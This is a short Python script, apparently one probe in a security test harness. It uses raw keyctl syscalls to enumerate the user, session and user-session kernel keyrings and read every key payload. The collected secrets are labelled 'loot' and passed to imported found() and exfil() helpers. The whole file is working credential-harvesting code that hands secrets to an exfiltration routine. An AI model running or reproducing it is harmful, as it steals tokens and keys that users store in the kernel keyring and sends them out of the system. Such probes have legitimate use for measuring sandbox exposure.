# The kernel keyring: list the user's keyrings with keyctl(KEYCTL_READ) and read every
# key in them (no keyutils needed: raw syscalls).
import ctypes
import platform
import struct
from pylib import found, exfil, did, note, finish

NR_KEYCTL = {'x86_64': 250, 'aarch64': 219}.get(platform.machine())
KEYCTL_READ = 11
KEY_SPEC = {'user': -4, 'session': -3, 'user-session': -5}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def read_key(key_id):
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(NR_KEYCTL, ctypes.c_long(KEYCTL_READ), ctypes.c_long(key_id), buf, ctypes.c_long(4096))
    if n < 0:
        return None, ctypes.get_errno()
    return buf.raw[:min(n, 4096)], 0


loot = b''
for name, ring in KEY_SPEC.items():
    ids, err = read_key(ring)
    if ids is None:
        note(f'keyctl read {name}: errno {err}')
        continue
    did('keyctl')
    for (key_id,) in struct.iter_unpack('<i', ids[: len(ids) // 4 * 4]):
        payload, err = read_key(key_id)
        if payload:
            loot += payload + b'\n'
if loot:
    found(loot)
    exfil(loot)
finish()
